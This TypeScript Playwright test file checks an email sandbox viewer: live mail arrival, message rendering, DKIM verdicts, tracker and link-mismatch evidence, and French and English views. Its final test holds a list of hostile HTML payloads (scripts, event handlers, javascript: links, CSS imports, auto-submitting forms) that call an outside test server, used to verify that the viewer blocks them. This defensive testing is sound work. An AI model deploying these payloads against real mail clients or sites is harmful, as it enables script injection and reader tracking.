// The mailboxes of the pretend world, in a real browser: an empty page that says what to do, messages that arrive while one looks, one
// message as its reader sees it, its verdict with the evidence shown in place; and a hostile message that can do nothing.

import assert from 'node:assert/strict';
import { after, before } from 'node:test';
import type { Page } from 'playwright-core';
import { readPrivateKey } from '#authentication/dkim-keys.ts';
import { prepareSigner, type Sign } from '#authentication/dkim-sign.ts';
import { prepareComposer } from '#message/compose.ts';
import { type Listener, startListener } from '#receiving/listener/listener.ts';
import { createKeeper, type Keeper } from '#receiving/sandbox/keeper.ts';
import { sandboxDestination } from '#receiving/sandbox/sandbox-destination.ts';
import { connect } from '#smtp/client.ts';
import { inspect } from '#test/kit/browser.ts';
import { consoleSettings, startConsole, type TestConsole } from '#test/kit/console.ts';
import { type TestDatabase, testDatabase } from '#test/kit/database.ts';
import { makeDomain } from '#test/kit/send.ts';
import { story } from '#test/kit/story.ts';

const DOMAIN = 'atelier-du-port.fr';

let db: TestDatabase;
let keeper: Keeper;
let server: Listener;
let dauphin: TestConsole;
let sign: Sign;

before(async () => {
  db = await testDatabase({ env: await consoleSettings() });
  await makeDomain(db, { name: DOMAIN });
  const [key] = await db.sql<
    [{ selector: string; sealed: Buffer }]
  >`select selector, private_key_sealed as sealed from dkim_keys`;
  const privateKey = readPrivateKey(db.platform.vault.open(key.sealed));
  sign = prepareSigner(DOMAIN, [{ selector: key.selector, algorithm: 'rsa-sha256', privateKey }]);
  keeper = createKeeper(db.platform);
  server = await startListener(db.platform, [sandboxDestination(db.platform, keeper)]);
  dauphin = await startConsole(db.platform, db.workspaceId);
});

after(async () => {
  await dauphin?.close();
  await server?.close();
  await keeper?.close();
  await db?.close();
});

interface Letter {
  to: string;
  subject: string;
  html: string;
  text: string;
}

const compose = prepareComposer({
  from: { name: 'Atelier du Port', address: `nouvelles@${DOMAIN}` },
  list: { name: 'Nouvelles du port', id: `nouvelles.${DOMAIN}` },
  feedbackId: 'c1:w1:news:dauphin',
});
let made = 0;

async function send(...letters: Letter[]): Promise<void> {
  const { port } = server;
  const connected = await connect({ address: '127.0.0.1', port, name: 'localhost', hello: 'localhost', tls: 'never' });
  assert.ok(connected.ok);
  for (const { to, subject, html, text } of letters) {
    const id = ++made;
    const token = db.platform.vault.signToken('return', [db.workspaceId, 1, id, 0], 'base32');
    const unsubscribe = { url: `${dauphin.url}/u/abc` };
    const date = db.clock.now();
    const source = compose({
      to: { name: '', address: to },
      subject,
      messageId: `${id}@${DOMAIN}`,
      date,
      text,
      html,
      unsubscribe,
    });
    const delivery = await connected.session.deliver({ from: `b.${token}@${DOMAIN}`, to }, await sign(source, date));
    assert.equal(delivery.kind, 'accepted');
  }
  await connected.session.quit();
}

const newsletter = (to: string, name: string): Letter => ({
  to,
  subject: `${name}, la saison des régates commence`,
  text: `Bonjour ${name},\n\nLa saison des régates commence samedi à neuf heures, au vieux port. Venez essayer nos nouveaux voiliers.\n\nL’équipe de l’Atelier du Port\n\nSe désinscrire : ${dauphin.url}/u/abc`,
  html: `<!doctype html><html><head><style>.pied{color:#667}</style></head><body style="margin:0;background:#eef4f8">
    <div style="display:none">Samedi à neuf heures, au vieux port</div>
    <table align="center" width="600" style="max-width:100%;background:#fff;font-family:Georgia,serif"><tr><td style="padding:24px">
    <img src="https://images.${DOMAIN}/voiliers.jpg" width="552" height="180" alt="Trois voiliers sous le vent">
    <h1 style="color:#0b659b">La saison des régates commence</h1>
    <p>Bonjour ${name},</p><p>La saison des régates commence samedi à neuf heures, au vieux port. Venez essayer nos nouveaux voiliers.</p>
    <p><a href="https://www.${DOMAIN}/regates" style="background:#0b659b;color:#fff;padding:10px 18px">Je participe</a></p>
    <p>Nos amis : <a href="http://exemple-voiles.com/promo">www.voiles-du-nord.fr</a></p>
    <p class="pied">L’équipe de l’Atelier du Port · <a href="${dauphin.url}/u/abc">Se désinscrire</a></p>
    <img src="https://pixel.exemple.com/o/8f7a6b5c4d3e2f1a0b9c.gif" width="1" height="1">
    </td></tr></table></body></html>`,
});

const openMessage = async (page: Page, subject: string) => {
  await page.getByRole('list', { name: 'Messages' }).getByRole('button', { name: subject }).first().click();
  await page.getByRole('heading', { name: subject }).waitFor();
};

story('mail arrives in the sandbox while one looks, and is read as its reader would read it', async ({ visit }) => {
  const ines = await visit({ language: 'fr' });
  const { page, context } = ines;
  await dauphin.admit(context);
  await page.goto(`${dauphin.url}/sandbox`);
  await page.getByText('Aucun courrier pour l’instant').waitFor();
  await inspect(page, 'sandbox-empty');

  await send(
    ...['Camille', 'Yann', 'Anaïs', 'Malo', 'Élodie'].map((name) =>
      newsletter(`${name.toLowerCase().normalize('NFD').replace(/\W/g, '')}@exemple.fr`, name),
    ),
  );
  // By a live notice: nobody reloads.
  await page.getByRole('button', { name: /Yann, la saison des régates/ }).waitFor();
  await page
    .getByRole('navigation', { name: 'Boîtes aux lettres' })
    .getByRole('button', { name: /yann@exemple\.fr/ })
    .click();
  await openMessage(page, 'Yann, la saison des régates commence');

  const frame = page.frameLocator('iframe[title="Le message comme son lecteur le voit"]');
  await frame.getByRole('heading', { name: 'La saison des régates commence' }).waitFor();
  await page.getByText('2 images distantes bloquées', { exact: true }).waitFor();
  await page.getByText('3 liens, avec leur vraie cible').click();
  await page.getByRole('cell', { name: 'http://exemple-voiles.com/promo' }).waitFor();
  await inspect(page, 'sandbox-message');

  await page.getByRole('tab', { name: 'Texte' }).click();
  await page.getByRole('tabpanel').getByText('Bonjour Yann,').waitFor();
  await page.getByRole('tab', { name: 'Source' }).click();
  await page.getByRole('tabpanel').getByText('DKIM-Signature: v=1').waitFor();
  await inspect(page, 'sandbox-source', { phone: false });
  const download = page.waitForEvent('download');
  await page.getByRole('link', { name: 'Télécharger (.eml)' }).last().click();
  assert.match((await download).suggestedFilename(), /^message-\d+\.eml$/);
});

story('the verdict says in plain words what was seen, and shows it in the message', async ({ visit }) => {
  const ines = await visit({ language: 'fr' });
  const { page, context } = ines;
  await dauphin.admit(context);
  await page.goto(`${dauphin.url}/sandbox`);
  await openMessage(page, 'Camille, la saison des régates commence');
  await page.getByRole('tab', { name: 'Verdict' }).click();
  await page.getByText('Ce qui parle pour').waitFor();
  await page.getByText(`Le domaine ${DOMAIN} confirme que ce message vient bien de lui`).waitFor();
  const pixel = page.getByRole('listitem').filter({ hasText: 'TRACKER_PIXEL' });
  await pixel.getByText('pixel.exemple.com').first().waitFor();
  await inspect(page, 'sandbox-verdict');
  const mismatch = page
    .getByRole('listitem')
    .filter({ hasText: 'Un lien' })
    .filter({ hasText: 'exemple-voiles.com' })
    .first();
  await mismatch.getByRole('button', { name: 'Montrer dans le message' }).click();
  const marked = page.frameLocator('iframe[title^="Le message, avec l’indice"]');
  await marked.locator('a[href="http://exemple-voiles.com/promo"]').waitFor();
  await marked.locator('[id^=mark-]:target').waitFor();
  await inspect(page, 'sandbox-verdict-marked');
});

story('the sandbox in English, and emptied', async ({ visit }) => {
  const ines = await visit({ language: 'en' });
  const { page, context } = ines;
  await dauphin.admit(context, 'en');
  await page.goto(`${dauphin.url}/sandbox`);
  await page.getByRole('button', { name: /Malo, la saison/ }).click();
  await page.getByRole('tab', { name: 'Verdict' }).click();
  await page.getByText('What speaks against it').waitFor();
  await inspect(page, 'sandbox-verdict-en', { phone: false });
  await page.getByRole('button', { name: 'Empty the sandbox' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Empty the sandbox' }).click();
  await page.getByText('No mail yet').waitFor();
});

story(
  'a hostile message runs nothing, and nothing leaves the page before a click',
  async ({ visit, outside: world }) => {
    const outside = await world();
    const away = outside.url;
    const attacks = [
      `<script>fetch('${away}/script');parent.document.title='owned'</script>`,
      `<img src="${away}/img" onerror="fetch('${away}/onerror')">`,
      `<img srcset="${away}/srcset 1x"><input type="image" src="${away}/input"><picture><source srcset="${away}/source"></picture>`,
      `<svg><image href="${away}/svg"/><script>fetch('${away}/svg-script')</script></svg><math href="${away}/math">x</math>`,
      `<iframe src="${away}/iframe"></iframe><object data="${away}/object"></object><embed src="${away}/embed">`,
      `<link rel="stylesheet" href="${away}/css"><link rel="preload" as="image" href="${away}/preload"><link rel="dns-prefetch" href="${away}">`,
      `<style>@import url(${away}/import);@font-face{font-family:x;src:url(${away}/font)}body{font-family:x;background:url(${away}/background)}</style>`,
      `<div style="background-image:url('${away}/style')">x</div><table background="${away}/table"><tr><td>x</td></tr></table>`,
      `<meta http-equiv="refresh" content="0;url=${away}/refresh"><base href="${away}/base/">`,
      `<form action="${away}/form" id="f"><button autofocus onfocus="this.form.submit()">Envoyer</button></form>`,
      `<video src="${away}/video" poster="${away}/poster" autoplay></video><audio src="${away}/audio" autoplay></audio>`,
      `<body onload="fetch('${away}/onload')"><a href="javascript:fetch('${away}/href')">piège</a>`,
      `<a id="out" href="${away}/clicked" ping="${away}/ping">Sortir</a><a href="${away.replace('http:', '')}/relative">relatif</a>`,
    ];
    await send({
      to: 'victime@exemple.fr',
      subject: 'Rien à craindre',
      text: 'Rien.',
      html: `<p>Bonjour.</p>${attacks.join('\n')}`,
    });
    const ines = await visit({ language: 'fr' });
    const { page, context } = ines;
    ines.forgive(/Content Security Policy|Refused to|frame is sandboxed/);
    await dauphin.admit(context);
    await page.goto(`${dauphin.url}/sandbox`);
    await openMessage(page, 'Rien à craindre');
    const frame = page.frameLocator('iframe[title="Le message comme son lecteur le voit"]');
    await frame.getByRole('link', { name: 'Sortir' }).waitFor();
    // The policy of the frame must hold alone, whatever cleaning lets through.
    const opened = await context.newPage();
    const [line] = (
      await (await page.request.get(`${dauphin.url}/api/sandbox/messages?mailbox=victime@exemple.fr`)).json()
    ).items;
    const answer = await opened.goto(`${dauphin.url}/api/sandbox/messages/${line.id}/frame`);
    await opened.waitForLoadState('networkidle');
    const policy = answer?.headers()['content-security-policy'] ?? '';
    const bare = await context.newPage();
    await bare.route('**/frame-alone', (route) =>
      route.fulfill({
        body: attacks.join('\n'),
        headers: { 'content-type': 'text/html', 'content-security-policy': policy },
      }),
    );
    await bare.goto(`${dauphin.url}/frame-alone`);
    await bare.waitForLoadState('networkidle');
    assert.deepEqual(outside.heard(), []);
    assert.notEqual(await page.title(), 'owned');

    const popup = context.waitForEvent('page');
    await frame.getByRole('link', { name: 'Sortir' }).click();
    await (await popup).waitForURL(`${away}/clicked`);
    assert.deepEqual(outside.heard(), ['/clicked']);
  },
);
